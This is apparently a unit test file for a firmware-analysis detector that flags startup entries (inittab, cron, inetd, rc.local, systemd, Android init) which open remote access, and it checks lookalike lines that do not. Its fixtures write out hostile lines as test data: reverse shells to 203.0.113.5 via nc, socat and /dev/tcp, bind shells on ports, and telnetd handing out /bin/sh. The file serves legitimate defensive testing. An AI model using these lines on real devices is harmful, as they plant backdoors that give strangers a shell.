"""Ways in: what starting a program opens, and what only looks like it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.explaining.cases import File, case, findings, rules

from trueware.explaining.detectors.ways_in import WaysIn
from trueware.explaining.reading.starters import STARTERS, When, starts
from trueware.model.finding import Severity

INITTAB = "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n"
HEAD = "#!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n"


def added(path: str, before: str, more: str) -> list[str]:
    return rules(WaysIn, case({path: before.encode()}, {path: (before + more).encode()}))


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("::respawn:/usr/sbin/telnetd -F -l /bin/sh", "shell-on-port"),
        ("::respawn:/bin/busybox telnetd -F -l/bin/ash -p 2323", "shell-on-port"),
        ("::once:/usr/bin/nc -lk -p 4444 -e /bin/sh", "shell-on-port"),
        ("::once:socat TCP-LISTEN:99,fork EXEC:/bin/sh", "shell-on-port"),
        ("::once:nc 203.0.113.5 443 -e /bin/sh", "shell-sent-out"),
        ("::once:socat exec:'bash -li',pty tcp:203.0.113.5:443", "shell-sent-out"),
        ("::respawn:/usr/sbin/telnetd -F", "telnet-started"),
        ("::respawn:/usr/sbin/dropbear -F -p 22", "ssh-started"),
        ("::respawn:/usr/sbin/dropbear -F -B", "ssh-without-password"),
        ("::respawn:ssh -N -R 2222:localhost:22 u@203.0.113.5", "tunnel-started"),
        ("::respawn:/sbin/adbd", "adb-started"),
        ("::once:httpd -p 8080 -h /", "files-on-port"),
        ("::once:tcpsvd -E 0 21 ftpd -w /", "files-on-port"),
        ("::askfirst:-/bin/sh", "console-without-login"),
        ("ttyS0::respawn:getty -n -l /bin/sh ttyS0 115200", "console-without-login"),
    ],
)
def test_a_line_of_inittab_opens_a_way(line: str, rule: str) -> None:
    assert added("etc/inittab", INITTAB, line + "\n") == [rule]


@pytest.mark.parametrize(
    "line",
    [
        "# ::respawn:/usr/sbin/telnetd -F -l /bin/sh",
        "::respawn:/sbin/getty -L ttyS0 115200 vt100",
        "::askfirst:/usr/libexec/login.sh",
        "::respawn:/bin/sh /etc/watch.sh",
        "::sysinit:/bin/sh -c 'mount -a'",
        "::once:killall telnetd",
        "::once:nc -z localhost 80",
        "::once:nc -c example.org 443",
        "::once:echo nc -l -e /bin/sh",
        "::once:httpd -p 80 -h /www",
        "::once:ssh -L 80:localhost:80 u@example.org",
        "::once:sshd -t",
        "::once:start-stop-daemon -K -x /usr/sbin/telnetd",
        "::once:socat - UNIX:/run/x",
        "::ctrlaltdel:/usr/sbin/telnetd",
    ],
)
def test_a_line_of_inittab_only_looks_like_it(line: str) -> None:
    assert added("etc/inittab", INITTAB, line + "\n") == []


@pytest.mark.parametrize(
    ("path", "before", "more", "rule"),
    [
        ("etc/inetd.conf", "", "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n", "telnet-started"),
        ("etc/inetd.conf", "", "4444 stream tcp nowait root /bin/sh sh -i\n", "shell-on-port"),
        ("etc/inetd.conf", "", "tftp dgram udp wait root /bin/tftpd tftpd\n", "service-on-port"),
        ("etc/xinetd.d/a", "", "service telnet\n{\n server = /usr/sbin/in.telnetd\n}\n", "telnet-started"),
        ("etc/crontabs/root", "", "* * * * * nc 203.0.113.5 443 -e /bin/sh\n", "shell-sent-out"),
        ("etc/cron.d/a", "", "@reboot root telnetd\n", "telnet-started"),
        ("etc/init.d/rcS", HEAD, "telnetd\n}\n", "telnet-started"),
        ("etc/rc.local", "", "sh -i >& /dev/tcp/203.0.113.5/9 0>&1\n", "shell-sent-out"),
        ("lib/systemd/system/a.service", "[Service]\n", "ExecStart=-/usr/sbin/telnetd -F\n", "telnet-started"),
        ("system/etc/init/a.rc", "", 'service a /system/bin/sh -c "telnetd -l sh"\n user root\n', "shell-on-port"),
        ("usr/bin/a", "#!/bin/sh\n", "dropbear -p 2222\n", "ssh-started"),
    ],
)
def test_every_file_that_starts_programs_is_read(path: str, before: str, more: str, rule: str) -> None:
    assert added(path, before, more) == [rule]


@pytest.mark.parametrize(
    ("path", "more"),
    [
        ("etc/xinetd.d/a", "service telnet\n{\n server = /usr/sbin/in.telnetd\n disable = yes\n}\n"),
        ("etc/inetd.conf", "#telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n"),
        ("etc/inetd.conf", "echo stream tcp nowait root internal\n"),
        ("usr/share/doc/telnet.txt", "telnetd -l /bin/sh\n"),
        ("usr/lib/python3/a.py", "#!/usr/bin/python3\ntelnetd\n"),
    ],
)
def test_what_starts_nothing_is_not(path: str, more: str) -> None:
    assert added(path, "", more) == []


def test_what_it_shows() -> None:
    made = case({"etc/inittab": INITTAB.encode()}, {"etc/inittab": f"{INITTAB}::once:telnetd -p 24 -l sh\n".encode()})
    (found,) = findings(WaysIn, made)
    assert found.detail == "telnetd -p 24 -l sh (port 24)"
    assert (found.evidence[0].where, found.evidence[0].found) == ("line 3", "telnetd -p 24 -l sh")
    assert found.touches == ("port:24",)
    assert found.severity is Severity.HIGH


def test_a_way_that_was_there_is_none_that_was_opened() -> None:
    line = "::respawn:/usr/sbin/telnetd -F\n"
    made = case({"etc/inittab": (line + INITTAB).encode()}, {"etc/inittab": (INITTAB + "# new\n" + line).encode()})
    assert rules(WaysIn, made) == []
    assert added("etc/inittab", line, line) == ["telnet-started"], "once more"
    script = {"etc/init.d/S50telnet": b"#!/bin/sh\ntelnetd\n"}
    assert rules(WaysIn, case(script, {"etc/init.d/S60telnet": script["etc/init.d/S50telnet"]})) == [], "renamed"


def test_a_script_that_moved_to_where_it_is_started() -> None:
    text = b"telnetd\n"
    assert rules(WaysIn, case({"usr/share/doc/rc": text}, {"etc/rc.local": text})) == ["telnet-started"]


@pytest.mark.parametrize(
    ("login", "rule"),
    [
        (b"#!/bin/sh\nexec /bin/ash --login\n", "shell-on-port"),
        (b"#!/bin/sh\ngrep -q '^root:[^!]' /etc/shadow && exec /bin/login\nexec /bin/ash --login\n", "telnet-started"),
        (b"#!/bin/sh\nexec /bin/sh /usr/lib/ask.sh\n", "telnet-started"),
        (b"\x7fELF", "telnet-started"),
    ],
)
def test_what_telnet_asks_is_looked_at(login: bytes, rule: str) -> None:
    files = {"bin/sh": b"", "bin/ask": login}
    line = b"::respawn:telnetd -F -l /bin/ask\n"
    made = case({**files, "etc/inittab": b"::a:b\n"}, {**files, "etc/inittab": b"::a:b\n" + line})
    assert rules(WaysIn, made) == [rule]


def test_nothing_is_said_where_the_genuine_bytes_are_not_at_hand_or_it_is_a_program() -> None:
    before, after = {"etc/rc.local": b"exit 0\n"}, {"etc/rc.local": b"telnetd\n"}
    assert rules(WaysIn, case(before, after, at_hand=False)) == []
    assert rules(WaysIn, case({}, {"etc/init.d/a": File(b"\x7fELF\ntelnetd\n", 0o755)})) == []


def test_an_owner_may_start_ssh() -> None:
    made = case({}, {"etc/rc.local": b"dropbear\ntelnetd -l sh\n"}, mutable=("etc/rc.local",))
    assert [each.severity for each in findings(WaysIn, made)] == [Severity.LOW, Severity.HIGH]


def test_when_and_as_whom() -> None:
    (start,) = starts("etc/cron.d/a", b"PATH=/bin x y z a b\n*/5 * * * * nobody /bin/a -b # c\n")
    assert (start.run.text, start.when, start.user) == ("/bin/a -b", When.CLOCK, "nobody")
    (start,) = starts("system/etc/init/a.rc", b"service a /system/bin/a b\n    user shell\non boot\n    start a\n")
    assert (start.run.text, start.user, start.label) == ("/system/bin/a b", "shell", "service a")
    (start,) = starts("system/etc/init/a.rc", b'on boot\n  exec u:r:a:s0 root -- /system/bin/sh -c "a b"\n')
    assert (start.run.text, start.label) == ("a b", "on boot")


@given(st.binary(), st.sampled_from(["etc/inittab", "etc/crontab", "a/init.rc", "etc/inetd.conf", "etc/xinetd.d/a",
                                     "etc/systemd/system/a.service", "etc/rc.local", "usr/bin/a"]))  # fmt: skip
def test_any_bytes_have_a_reading(data: bytes, path: str) -> None:
    assert path == "usr/bin/a" or STARTERS.fullmatch(path)
    rules(WaysIn, case({}, {path: data}))
    rules(WaysIn, case({}, {path: b"#!/bin/sh\n" + data}))
